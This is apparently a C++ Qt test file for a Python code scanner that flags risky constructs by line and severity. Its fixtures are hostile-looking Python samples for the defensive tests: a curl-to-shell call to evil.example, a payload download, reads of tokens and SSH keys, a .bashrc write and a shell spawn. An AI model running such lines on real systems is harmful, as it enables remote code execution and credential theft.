// The Python tokenizer and scanner: findings at exact lines with their severity, strings and comments
// never flagged, imports classified as standard library or third party.

#include "review/python_scanner.h"
#include "review/python_tokenizer.h"

#include <QTest>

using namespace mwb::review;

namespace {

// A hostile module; the line numbers below are part of the test.
constexpr const char* kMalicious =
    "\"\"\"Helpers. Do not call os.system('rm -rf /') here: this docstring only mentions it.\"\"\"\n"
    "import os\n"
    "import base64\n"
    "import subprocess\n"
    "import urllib.request\n"
    "import torch\n"
    "import numpy as np\n"
    "from .utils import helper\n"
    "\n"
    "# os.system(\"echo comment\")  -- a comment, not code\n"
    "message = \"os.system('not code either')\"\n"
    "os.system(\"curl http://evil.example | sh\")\n"
    "exec(base64.b64decode(\"cHJpbnQoJ2hpJyk=\"))\n"
    "subprocess.run([\"ls\", \"-l\"], check=True)\n"
    "data = urllib.request.urlopen(\"http://evil.example/payload\").read()\n"
    "state = torch.load(\"weights.pt\")\n"
    "safe_state = torch.load(\"weights.pt\", weights_only=True)\n"
    "token = os.environ[\"HF_TOKEN\"]\n"
    "home = os.getenv(\"HOME\")\n"
    "with open(os.path.expanduser(\"~/.bashrc\"), \"a\") as f:\n"
    "    f.write(f\"{os.popen('id').read()}\")\n"
    "text = \"\"\"\n"
    "eval(\"inside a triple-quoted string\")\n"
    "\"\"\"\n"
    "model.eval()\n"
    "value = eval(\n"
    "    \"1 + 1\"\n"
    ")\n";

struct Expected
{
    int line;
    Severity severity;
    const char* category;
};

QString describe(const std::vector<Finding>& findings)
{
    QStringList out;
    for (const Finding& f : findings)
        out << QStringLiteral("%1:%2:%3:%4")
                   .arg(f.line)
                   .arg(severityName(f.severity), QString::fromStdString(f.category),
                        QString::fromStdString(f.construct));
    return out.join(QStringLiteral(", "));
}

} // namespace

class TestPythonScanner : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void tokenizerStringsCommentsAndContinuations()
    {
        const auto tokens = tokenizePython("x = 'a # not a comment' # real comment\n"
                                           "y = '''one\ntwo''' + \\\n  rb\"\\\"q\"\n"
                                           "z = (1,\n 2)\n");
        std::vector<std::string> strings, comments;
        int newlines = 0;
        for (const Token& t : tokens) {
            if (t.kind == TokenKind::String)
                strings.push_back(t.text);
            if (t.kind == TokenKind::Comment)
                comments.push_back(t.text);
            newlines += t.kind == TokenKind::Newline;
        }
        QCOMPARE(strings.size(), size_t(3));
        QCOMPARE(strings[0], std::string("a # not a comment"));
        QCOMPARE(strings[1], std::string("one\ntwo"));
        QCOMPARE(strings[2], std::string("\\\"q"));
        QCOMPARE(comments, std::vector<std::string>{" real comment"});
        QCOMPARE(newlines, 3); // the continuation and the bracket join lines into one logical line each
        const auto z =
            std::find_if(tokens.begin(), tokens.end(), [](const Token& t) { return t.text == "z"; });
        QCOMPARE(z->line, 5);
    }

    void fStringFieldsAreCode()
    {
        const auto tokens = tokenizePython("s = f\"{{literal}} {os.getcwd()!r:>10} {'a'}\"\n");
        std::vector<std::string> names;
        for (const Token& t : tokens)
            if (t.kind == TokenKind::Name && t.embedded)
                names.push_back(t.text);
        QCOMPARE(names, (std::vector<std::string>{"os", "getcwd"}));
    }

    void unterminatedStringDoesNotHang()
    {
        const auto tokens = tokenizePython("x = 'open\ny = \"\"\"never closed\n");
        QVERIFY(!tokens.empty());
        QCOMPARE(tokens.front().text, std::string("x"));
    }

    void maliciousFileFindings()
    {
        const SourceScan scan = scanPythonSource(kMalicious);
        const std::vector<Expected> expected = {
            {4, Severity::Medium, "process"},        // import subprocess
            {5, Severity::Low, "network"},           // import urllib.request
            {12, Severity::High, "process"},         // os.system
            {13, Severity::High, "obfuscation"},     // exec(base64.b64decode(...))
            {14, Severity::High, "process"},         // subprocess.run
            {15, Severity::Medium, "network"},       // urllib.request.urlopen
            {16, Severity::High, "deserialization"}, // torch.load without weights_only
            {18, Severity::High, "credentials"},     // os.environ["HF_TOKEN"]
            {19, Severity::Medium, "environment"},   // os.getenv("HOME")
            {20, Severity::High, "filesystem"},      // open(~/.bashrc, "a")
            {21, Severity::High, "process"},         // os.popen inside an f-string field
            {26, Severity::High, "dynamic-code"},    // eval(
        };
        QCOMPARE(scan.findings.size(), expected.size());
        for (size_t i = 0; i < expected.size(); ++i) {
            const Finding& f = scan.findings[i];
            QVERIFY2(f.line == expected[i].line && f.severity == expected[i].severity &&
                         f.category == expected[i].category,
                     qPrintable(describe(scan.findings)));
            QVERIFY(!f.reason.empty());
        }
        QCOMPARE(scan.findings[7].construct, std::string("os.environ[\"HF_TOKEN\"]"));
        QCOMPARE(scan.worstSeverity(), Severity::High);
    }

    void importsClassified()
    {
        const SourceScan scan = scanPythonSource(kMalicious);
        QCOMPARE(scan.thirdPartyPackages(), (std::vector<std::string>{"numpy", "torch"}));
        QCOMPARE(scan.standardLibraryModules(),
                 (std::vector<std::string>{"base64", "os", "subprocess", "urllib"}));
        const auto rel = std::find_if(scan.imports.begin(), scan.imports.end(),
                                      [](const ImportRecord& r) { return r.isRelative(); });
        QVERIFY(rel != scan.imports.end());
        QCOMPARE(rel->line, 8);
        QCOMPARE(rel->level, 1);
        QCOMPARE(rel->module, std::string("utils"));
        QCOMPARE(rel->names, std::vector<std::string>{"helper"});
        QVERIFY(!rel->standardLibrary);
    }

    void relativeImportForms()
    {
        const SourceScan scan = scanPythonSource("from . import a, b as c\n"
                                                 "from ..pkg.sub import (x,\n    y)\n"
                                                 "import .legacy\n"
                                                 "from __future__ import annotations\n"
                                                 "import timm, json\n");
        QCOMPARE(scan.imports.size(), size_t(6));
        QCOMPARE(scan.imports[0].level, 1);
        QCOMPARE(scan.imports[0].names, (std::vector<std::string>{"a", "b"}));
        QCOMPARE(scan.imports[1].level, 2);
        QCOMPARE(scan.imports[1].module, std::string("pkg.sub"));
        QCOMPARE(scan.imports[1].names, (std::vector<std::string>{"x", "y"}));
        QCOMPARE(scan.imports[2].level, 1);
        QCOMPARE(scan.imports[2].module, std::string("legacy"));
        QVERIFY(scan.imports[3].standardLibrary);
        QCOMPARE(scan.imports[4].topLevel, std::string("timm"));
        QVERIFY(!scan.imports[4].standardLibrary);
        QVERIFY(scan.imports[5].standardLibrary);
    }

    void flagged_data()
    {
        QTest::addColumn<QString>("source");
        QTest::addColumn<int>("line");
        QTest::addColumn<QString>("severity");
        QTest::addColumn<QString>("category");
        QTest::newRow("aliased module") << "import os as o\n\no.system('x')\n"
                                        << 3 << "high"
                                        << "process";
        QTest::newRow("from-import alias") << "from subprocess import Popen as P\nP(['ls'])\n"
                                           << 2 << "high"
                                           << "process";
        QTest::newRow("star import") << "from os import *\nsystem('x')\n"
                                     << 2 << "high"
                                     << "process";
        QTest::newRow("os.exec family") << "import os\nos.execvp('sh', ['sh'])\n"
                                        << 2 << "high"
                                        << "process";
        QTest::newRow("pty") << "import pty\npty.spawn('/bin/sh')\n"
                             << 2 << "high"
                             << "process";
        QTest::newRow("__import__") << "m = __import__('o' + 's')\n"
                                    << 1 << "high"
                                    << "dynamic-code";
        QTest::newRow("importlib") << "import importlib\nimportlib.import_module(name)\n"
                                   << 2 << "medium"
                                   << "dynamic-code";
        QTest::newRow("compile") << "code = compile(src, 'x', 'exec')\n"
                                 << 1 << "medium"
                                 << "dynamic-code";
        QTest::newRow("zlib obfuscation") << "import zlib\neval(zlib.decompress(blob))\n"
                                          << 2 << "high"
                                          << "obfuscation";
        QTest::newRow("codecs obfuscation") << "import codecs\nexec(codecs.decode(s, 'rot13'))\n"
                                            << 2 << "high"
                                            << "obfuscation";
        QTest::newRow("requests") << "import requests\nr = requests.post(url, data=d)\n"
                                  << 2 << "medium"
                                  << "network";
        QTest::newRow("socket") << "import socket\ns = socket.socket()\n"
                                << 2 << "medium"
                                << "network";
        QTest::newRow("httpx") << "import httpx\nhttpx.get(u)\n"
                               << 2 << "medium"
                               << "network";
        QTest::newRow("pickle.loads") << "import pickle\nobj = pickle.loads(b)\n"
                                      << 2 << "high"
                                      << "deserialization";
        QTest::newRow("marshal") << "import marshal\nc = marshal.loads(b)\n"
                                 << 2 << "high"
                                 << "deserialization";
        QTest::newRow("joblib") << "import joblib\nm = joblib.load(p)\n"
                                << 2 << "high"
                                << "deserialization";
        QTest::newRow("torch.load weights_only=False")
            << "import torch\nsd = torch.load(p, weights_only=False)\n"
            << 2 << "high"
            << "deserialization";
        QTest::newRow("from torch import load") << "from torch import load\nsd = load(p)\n"
                                                << 2 << "high"
                                                << "deserialization";
        QTest::newRow("numpy allow_pickle") << "import numpy as np\na = np.load(p, allow_pickle=True)\n"
                                            << 2 << "high"
                                            << "deserialization";
        QTest::newRow("ctypes") << "import ctypes\nlib = ctypes.CDLL('libc.so.6')\n"
                                << 2 << "high"
                                << "native-code";
        QTest::newRow("cffi") << "import cffi\nffi = cffi.FFI()\n"
                              << 2 << "high"
                              << "native-code";
        QTest::newRow("environ.get token") << "import os\nt = os.environ.get('HUGGING_FACE_HUB_TOKEN')\n"
                                           << 2 << "high"
                                           << "credentials";
        QTest::newRow("getenv secret") << "import os\nk = os.getenv('AWS_SECRET_ACCESS_KEY')\n"
                                       << 2 << "high"
                                       << "credentials";
        QTest::newRow("ssh key path") << "p = '~/.ssh/id_rsa'\n"
                                      << 1 << "high"
                                      << "credentials";
        QTest::newRow("netrc") << "from pathlib import Path\nPath.home() / '.netrc'\n"
                               << 2 << "high"
                               << "credentials";
        QTest::newRow("hf token file") << "open(os.path.join(home, '.cache/huggingface/token'))\n"
                                       << 1 << "high"
                                       << "credentials";
        QTest::newRow("absolute write") << "with open('/etc/cron.d/job', 'w') as f:\n    pass\n"
                                        << 1 << "high"
                                        << "filesystem";
        QTest::newRow("mode keyword") << "open(file='/tmp/x', mode='wb')\n"
                                      << 1 << "high"
                                      << "filesystem";
        QTest::newRow("rmtree") << "import shutil\nshutil.rmtree(path)\n"
                                << 2 << "high"
                                << "filesystem";
        QTest::newRow("os.remove") << "import os\nos.remove(p)\n"
                                   << 2 << "medium"
                                   << "filesystem";
        QTest::newRow("after semicolon") << "import os; os.system('x')\n"
                                         << 1 << "high"
                                         << "process";
        QTest::newRow("continued call") << "import os\nos.system(\\\n  'x')\n"
                                        << 2 << "high"
                                        << "process";
    }

    void flagged()
    {
        QFETCH(QString, source);
        QFETCH(int, line);
        QFETCH(QString, severity);
        QFETCH(QString, category);
        const SourceScan scan = scanPythonSource(source.toStdString());
        const auto it = std::find_if(scan.findings.begin(), scan.findings.end(), [&](const Finding& f) {
            return f.line == line && f.category == category.toStdString();
        });
        QVERIFY2(it != scan.findings.end(), qPrintable(describe(scan.findings)));
        QCOMPARE(QString::fromLatin1(severityName(it->severity)), severity);
    }

    void notFlagged_data()
    {
        QTest::addColumn<QString>("source");
        QTest::newRow("string") << "s = \"os.system('rm -rf /')\"\n";
        QTest::newRow("comment") << "import os\n# os.system('x')\nx = 1  # eval(y)\n";
        QTest::newRow("docstring") << "def f():\n    \"\"\"Uses subprocess.run and ~/.ssh, eval(x).\"\"\"\n";
        QTest::newRow("f-string text") << "s = f\"os.system('x') {value}\"\n";
        QTest::newRow("method eval") << "model.eval()\nself.eval()\n";
        QTest::newRow("def eval") << "class M:\n    def eval(self):\n        return self\n";
        QTest::newRow("keyword argument") << "run(eval=True, exec=False)\n";
        QTest::newRow("re.compile") << "import re\npattern = re.compile('a+')\n";
        QTest::newRow("torch.compile") << "import torch\nm = torch.compile(m)\n";
        QTest::newRow("safe torch.load")
            << "import torch\nsd = torch.load(p, map_location='cpu', weights_only=True)\n";
        QTest::newRow("relative write") << "with open('out.txt', 'w') as f:\n    f.write('x')\n";
        QTest::newRow("absolute read") << "open('/usr/share/dict/words').read()\n";
        QTest::newRow("urllib.parse") << "from urllib.parse import quote\nquote('a b')\n";
        QTest::newRow("base64 alone") << "import base64\nimg = base64.b64decode(data)\n";
        QTest::newRow("local os") << "os = Thing()\nx = typing.cast(int, y)\n";
        QTest::newRow("timm")
            << "import timm\nfrom transformers import PreTrainedModel\nm = timm.create_model('x')\n";
    }

    void notFlagged()
    {
        QFETCH(QString, source);
        const SourceScan scan = scanPythonSource(source.toStdString());
        QVERIFY2(scan.findings.empty(), qPrintable(describe(scan.findings)));
    }
};

QTEST_GUILESS_MAIN(TestPythonScanner)
#include "test_python_scanner.moc"
